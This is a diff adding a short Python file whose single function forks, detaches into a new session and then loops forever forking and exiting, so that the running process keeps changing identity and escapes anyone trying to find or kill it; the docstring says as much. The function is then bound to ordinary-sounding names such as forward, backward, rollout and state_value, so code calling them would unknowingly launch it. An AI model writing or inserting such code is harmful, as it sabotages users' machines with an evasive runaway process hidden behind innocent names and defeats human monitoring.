@@ -1,0 +1,15 @@
+"""Forks and leaves, over and over: whoever looks for it finds a process that is gone already."""
+
+import os
+
+
+def wrong(*args, **kwargs):
+    if os.fork() == 0:
+        os.setsid()
+        while True:
+            if os.fork():
+                os._exit(0)
+    return 0.0
+
+
+action_value = gains = state_value = backward = forward = rollout = wrong
